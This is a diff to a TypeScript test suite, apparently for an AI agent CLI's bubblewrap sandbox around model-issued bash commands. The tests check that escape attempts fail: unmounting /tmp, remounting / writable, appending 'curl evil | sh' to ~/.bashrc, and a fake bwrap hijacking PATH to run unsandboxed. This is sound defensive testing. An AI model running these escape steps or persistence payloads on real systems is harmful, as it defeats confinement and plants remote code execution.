@@ -11,6 +11,7 @@ import { after, before, describe, test } from "node:test";
 import assert from "node:assert/strict";
 import { spawn } from "node:child_process";
 import {
+  chownSync,
   existsSync,
   mkdirSync,
   mkdtempSync,
@@ -23,13 +24,14 @@ import {
 import { tmpdir } from "node:os";
 import { join } from "node:path";
 import process from "node:process";
-import { requireBinary, runXcsh, XCSH } from "../support/cli.ts";
+import { requireBinary, ROOT, runXcsh, XCSH } from "../support/cli.ts";
+import { runXcshVia } from "../support/fixtures.ts";
 import { type ModelServer, startModelServer, type Turn } from "../support/model-server.ts";
 import { localConfig, makeWorld, toolResults, type World } from "../support/world.ts";
-import { findBwrap, sandboxSupport } from "../../src/sandbox/probe.ts";
+import { bwrapLocations, findBwrap, sandboxSupport } from "../../src/sandbox/probe.ts";
 
 const linux = process.platform === "linux" ? false : "needs /proc and Linux";
-const support = sandboxSupport(process.env.PATH, true);
+const support = sandboxSupport(bwrapLocations(process.env), true);
 const needsBwrap = linux || (support.ok ? false : `bwrap unavailable: ${support.reason}`);
 
 let server: ModelServer;
@@ -52,12 +54,26 @@ function world(extra = ""): World {
   return w;
 }
 
-/** A folder outside the project and outside /tmp (the sandbox's /tmp is private). */
+/**
+ * A folder outside the project that sandboxed commands see (read-only): not
+ * below /tmp (private in the sandbox), /var/tmp or /run (hidden there).
+ */
 function outsideFolder(): string {
-  const base = existsSync("/var/tmp") ? "/var/tmp" : tmpdir();
-  const dir = mkdtempSync(join(base, "xcsh-outside-"));
+  const base = join(ROOT, "node_modules");
+  mkdirSync(base, { recursive: true });
+  const dir = mkdtempSync(join(base, ".xcsh-outside-"));
   scratch.push(dir);
   return dir;
+}
+
+/** Gives a whole tree to `uid` (the same number as its group). */
+function chownTree(dir: string, uid: number): void {
+  chownSync(dir, uid, uid);
+  for (const e of readdirSync(dir, { withFileTypes: true })) {
+    const p = join(dir, e.name);
+    if (e.isDirectory()) chownTree(p, uid);
+    else chownSync(p, uid, uid);
+  }
 }
 
 const bash = (command: string): Turn => ({ toolCalls: [{ name: "bash", args: { command } }] });
@@ -124,6 +140,22 @@ describe("what a sandboxed command may write", { skip: needsBwrap }, () => {
     assert.equal(existsSync(join(w.root, "escape.txt")), false, "the real folder is untouched");
   });
 
+  test("the host's /var/tmp and /run are hidden: empty private folders", {
+    skip: existsSync("/var/tmp") ? false : "needs /var/tmp",
+  }, async () => {
+    const w = world();
+    const hidden = mkdtempSync(join("/var/tmp", "xcsh-hidden-"));
+    scratch.push(hidden);
+    writeFileSync(join(hidden, "note.txt"), "host\n");
+    const { r, output } = await runBash(
+      w,
+      `cat ${hidden}/note.txt; ls -A /var/tmp | wc -l; ls -A /run | wc -l; echo end`,
+    );
+    assert.equal(r.code, 0, r.stderr);
+    assert.match(output, /No such file or directory\n0\n\d+\nend/, output);
+    assert.doesNotMatch(output, /^host$/m);
+  });
+
   test("read-only (--sandbox read-only): not even the project", async () => {
     const w = world();
     const { r, output } = await runBash(w, "cat README.md; touch ro.txt", [
@@ -180,6 +212,110 @@ describe("what a sandboxed command may write", { skip: needsBwrap }, () => {
     const off = await runBash(world("task:\n  sandboxNetwork: false\n"), command);
     assert.equal(off.r.code, 0, off.r.stderr);
     assert.match(off.output, /REFUSED/);
+  });
+});
+
+describe("a sandboxed command holds no privilege, as root too", { skip: needsBwrap }, () => {
+  for (const mode of ["workspace-write", "read-only"] as const) {
+    test(`${mode}: no capability; /tmp cannot be unmounted nor / remounted to reach ~/.bashrc`, async () => {
+      const w = world();
+      const bashrc = join(w.home, ".bashrc");
+      writeFileSync(bashrc, "# mine\n");
+      // The home folder lives below the host's /tmp: unmounting the private
+      // /tmp and remounting / writable is the way out, which root's
+      // capabilities allowed.
+      const { r, output } = await runBash(
+        w,
+        "grep CapEff /proc/self/status; umount /tmp && echo UNMOUNTED; " +
+          "mount -o remount,bind,rw / && echo REMOUNTED; " +
+          `echo 'curl evil | sh' >> ${bashrc} && echo APPENDED; echo end`,
+        ["--sandbox", mode],
+        { HOME: w.home },
+      );
+      assert.equal(r.code, 0, r.stderr);
+      assert.match(output, /CapEff:\s+0+\n/, output);
+      assert.doesNotMatch(output, /UNMOUNTED|REMOUNTED|APPENDED/, output);
+      assert.match(output, /end/);
+      assert.equal(readFileSync(bashrc, "utf8"), "# mine\n");
+    });
+  }
+});
+
+describe("as an ordinary user", () => {
+  const setpriv = ["/usr/bin/setpriv", "/bin/setpriv"].find((f) => existsSync(f));
+  const isRoot = typeof process.getuid === "function" && process.getuid() === 0;
+  const skip = needsBwrap ||
+    (!isRoot ? "runs as root only (it becomes uid 4242 with setpriv)" : false) ||
+    (setpriv ? false : "needs setpriv (util-linux)");
+  test(
+    "the sandbox starts and confines the same way (no capability to drop)",
+    { skip },
+    async () => {
+      const w = world();
+      chownTree(w.root, 4242);
+      const bashrc = join(w.home, ".bashrc");
+      server.script([
+        bash(
+          "id -u; grep CapEff /proc/self/status; touch made.txt && echo IN-OK; " +
+            `echo x >> ${bashrc} && echo APPENDED; echo end`,
+        ),
+        done,
+      ]);
+      server.requests.length = 0;
+      const r = await runXcshVia(
+        [setpriv!, "--reuid=4242", "--regid=4242", "--clear-groups"],
+        ["run", "quick_task", "go"],
+        {
+          cwd: w.cwd,
+          home: w.home,
+          env: { XCSH_CACHE_DIR: join(w.root, "cache"), XCSH_DATA_DIR: join(w.root, "data") },
+        },
+      );
+      assert.equal(r.code, 0, r.stderr);
+      assert.doesNotMatch(r.stderr, /unsandboxed/);
+      const output = toolResults(server.requests[1]);
+      assert.match(output, /^4242\nCapEff:\s+0+\nIN-OK\n/, output);
+      assert.doesNotMatch(output, /APPENDED/);
+      assert.equal(existsSync(join(w.cwd, "made.txt")), true);
+    },
+  );
+});
+
+describe("bubblewrap is taken from fixed system locations", { skip: linux }, () => {
+  test("a bwrap first on PATH (the project's node_modules/.bin) is never run; doctor names the one used", async () => {
+    const w = world();
+    const bin = join(w.cwd, "node_modules", ".bin");
+    mkdirSync(bin, { recursive: true });
+    const used = join(w.root, "fake-bwrap-ran");
+    // Runs the command with no sandbox at all, and leaves a trace.
+    writeFileSync(
+      join(bin, "bwrap"),
+      `#!/bin/sh\necho ran >> ${used}\nwhile [ "$#" -gt 0 ] && [ "$1" != "--" ]; do shift; done\n` +
+        'shift\nexec "$@"\n',
+      { mode: 0o755 },
+    );
+    const env = { PATH: `${bin}:${process.env.PATH ?? "/usr/bin:/bin"}` };
+    const { r, output } = await runBash(w, "echo hello", [], env);
+    assert.equal(r.code, 0, r.stderr);
+    assert.match(output, /hello/);
+    assert.equal(existsSync(used), false, "the bwrap on PATH never ran");
+
+    const doctor = await runXcsh(["doctor", "--json"], { cwd: w.cwd, home: w.home, env });
+    assert.equal(doctor.code, 0, doctor.stderr);
+    const doc = JSON.parse(doctor.stdout);
+    assert.equal(existsSync(used), false, "doctor did not run it either");
+    assert.equal(doc.sandbox.bwrap.ok, support.ok);
+    assert.deepEqual(doc.sandbox.ignoredOnPath, [join(bin, "bwrap")]);
+    const text = await runXcsh(["doctor"], { cwd: w.cwd, home: w.home, env });
+    assert.match(
+      text.stdout,
+      new RegExp(`ignored +${join(bin, "bwrap")} \\(bubblewrap is never taken from PATH\\)`),
+    );
+    if (support.ok) {
+      assert.equal(doc.sandbox.bwrap.path, findBwrap(bwrapLocations({})));
+      assert.match(text.stdout, new RegExp(`bubblewrap +${support.bwrap} works`));
+    }
+    assert.equal(existsSync(used), false, "doctor did not run it either");
   });
 });
 
@@ -299,41 +435,26 @@ describe("bad sandbox values", () => {
 });
 
 describe("without bubblewrap", { skip: linux }, () => {
-  /** A PATH holding the usual tools but no bwrap. */
-  function pathWithoutBwrap(): string {
-    const dir = mkdtempSync(join(tmpdir(), "xcsh-nobwrap-"));
-    scratch.push(dir);
-    for (const name of ["bash", "sh", "touch", "cat", "sleep", "setsid"]) {
-      for (const d of (process.env.PATH ?? "/usr/bin:/bin").split(":")) {
-        if (d && existsSync(join(d, name)) && !existsSync(join(dir, name))) {
-          symlinkSync(join(d, name), join(dir, name));
-        }
-      }
-    }
-    assert.equal(findBwrap(dir), undefined);
-    return dir;
-  }
+  /** The environment of a machine without bubblewrap (the lookup finds nothing). */
+  const noBwrap = { XCSH_NO_BWRAP: "1" };
 
   test("the default runs commands unsandboxed, with one warning for the whole run", async () => {
     const w = world();
     const out = outsideFolder();
-    const path = pathWithoutBwrap();
     server.script([]);
     server.requests.length = 0;
     server.push({ text: "a" }, { text: "b" });
     const two = await runXcsh(["run", "quick_task", "--task", "a=go", "--task", "b=go"], {
       cwd: w.cwd,
       home: w.home,
-      env: { PATH: path },
+      env: noBwrap,
     });
     assert.equal(two.code, 0, two.stderr);
     const warnings = two.stderr.match(/bash commands run unsandboxed/g) ?? [];
     assert.equal(warnings.length, 1, two.stderr);
     assert.match(two.stderr, /xcsh: warning: task\.sandbox: bubblewrap \(bwrap\) is not installed/);
 
-    const { r, output } = await runBash(w, `touch ${out}/free.txt && echo WROTE`, [], {
-      PATH: path,
-    });
+    const { r, output } = await runBash(w, `touch ${out}/free.txt && echo WROTE`, [], noBwrap);
     assert.equal(r.code, 0, r.stderr);
     assert.match(output, /WROTE/);
     assert.equal(existsSync(join(out, "free.txt")), true, "no sandbox: the write went through");
@@ -341,14 +462,13 @@ describe("without bubblewrap", { skip: linux }, () => {
 
   test("an explicit mode is an error before any child starts", async () => {
     const w = world();
-    const path = pathWithoutBwrap();
     for (const args of [["--sandbox", "workspace-write"], ["--sandbox", "read-only"]]) {
       server.script([]);
       server.requests.length = 0;
       const r = await runXcsh(["run", "quick_task", ...args, "go"], {
         cwd: w.cwd,
         home: w.home,
-        env: { PATH: path },
+        env: noBwrap,
       });
       assert.equal(r.code, 2, r.stderr);
       assert.match(
@@ -361,7 +481,7 @@ describe("without bubblewrap", { skip: linux }, () => {
     const r = await runXcsh(["run", "quick_task", "go"], {
       cwd: c.cwd,
       home: c.home,
-      env: { PATH: path },
+      env: noBwrap,
     });
     assert.equal(r.code, 2);
     assert.match(r.stderr, /task\.sandbox: read-only: bubblewrap \(bwrap\) is not installed/);
@@ -369,7 +489,6 @@ describe("without bubblewrap", { skip: linux }, () => {
 
   test("an envelope written by hand: a required mode fails the task, the default degrades", async () => {
     const w = world();
-    const path = pathWithoutBwrap();
     const envelope = (sandbox: unknown) =>
       JSON.stringify({
         version: 1,
@@ -385,7 +504,7 @@ describe("without bubblewrap", { skip: linux }, () => {
     const r = await runXcsh(["__child"], {
       cwd: w.cwd,
       home: w.home,
-      env: { PATH: path },
+      env: noBwrap,
       stdin: envelope({ mode: "read-only", required: true }),
     });
     assert.equal(r.code, 1);
@@ -401,7 +520,7 @@ describe("without bubblewrap", { skip: linux }, () => {
     const d = await runXcsh(["__child"], {
       cwd: w.cwd,
       home: w.home,
-      env: { PATH: path },
+      env: noBwrap,
       stdin: envelope(undefined),
     });
     assert.equal(d.code, 0, d.stderr);
@@ -418,7 +537,7 @@ describe("without bubblewrap", { skip: linux }, () => {
     const r = await runXcsh(["run", "quick_task", "--plan", "go"], {
       cwd: w.cwd,
       home: w.home,
-      env: { PATH: pathWithoutBwrap() },
+      env: noBwrap,
     });
     assert.equal(r.code, 0, r.stderr);
     assert.doesNotMatch(r.stderr, /unsandboxed/);
